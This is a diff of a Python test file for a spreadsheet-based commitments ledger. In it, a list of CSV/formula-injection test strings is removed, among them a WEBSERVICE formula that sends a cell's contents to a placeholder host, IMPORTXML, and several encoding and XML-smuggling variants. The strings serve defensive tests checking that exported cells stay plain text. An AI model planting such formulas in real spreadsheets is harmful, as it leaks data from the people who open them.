@@ -35,18 +35,6 @@ from outputs.sheets.ledger import PROMISES, write_table, write_workbook
 from outputs.sheets.taken_back import take_back
 
 SHEET = "承诺事项台账"
-HOSTILE = [
-    *FORMULAS,
-    '=WEBSERVICE("http://example.invalid/"&A1)',
-    "=IMPORTXML(A1,B1)",
-    "=1+1\x00",
-    "\ufeff=1+1",
-    "_x003D_1+1",
-    "<f>1+1</f>",
-    "</v></c><c><f>1+1</f></c>",
-    "=1+1;张三",
-    "%0A=1+1",
-]
 
 
 def change(
@@ -391,12 +379,12 @@ def test_hostile_cells_that_come_back_are_words_wherever_they_go(
     make_ledger: Callable[..., Ledger], tmp_path: Path
 ) -> None:
     """As strings they are taken for words; these, recorded and exported again, are no formula anywhere."""
-    ledger, path = make_ledger(*HOSTILE), tmp_path / "hostile.xlsx"
+    ledger, path = make_ledger(*FORMULAS), tmp_path / "hostile.xlsx"
     write_workbook(ledger, str(path))
     book = load_workbook(path)
     sheet = book[SHEET]
     heads = {cell.value: cell.column for cell in sheet[1]}
-    for line, text in enumerate(HOSTILE, start=2):
+    for line, text in enumerate(FORMULAS, start=2):
         for head in ("备注", "交给", "责任单位"):
             cell = sheet.cell(line, heads[head])
             cell.value = text.replace("\x00", "")
@@ -404,7 +392,7 @@ def test_hostile_cells_that_come_back_are_words_wherever_they_go(
     book.save(path)
     found = take_back(path)
     assert found.untaken == ()
-    assert len(edits(found)) == 3 * len(HOSTILE)
+    assert len(edits(found)) == 3 * len(FORMULAS)
     made = decisions_of(_compared(found, ledger).changes, "测试", datetime(2026, 3, 2, tzinfo=UTC))
     known = fold_decisions(replace(one, id=number) for number, one in enumerate(made, start=1))
     again = replace(ledger, standings=tuple(replace(one, decided=known[one.row.id]) for one in ledger.standings))
@@ -418,7 +406,7 @@ def test_hostile_cells_that_come_back_are_words_wherever_they_go(
     for row in csv.reader(io.StringIO(out.getvalue(), newline="")):
         assert not any(cell.lstrip().startswith(marks) for cell in row)
     same = take_back(tmp_path / "again.xlsx")
-    assert (same.rows, same.untaken, same.lines) == ((), (), len(HOSTILE))
+    assert (same.rows, same.untaken, same.lines) == ((), (), len(FORMULAS))
 
 
 # -- against the ledger as it is now ---------------------------------------------------------------------------------
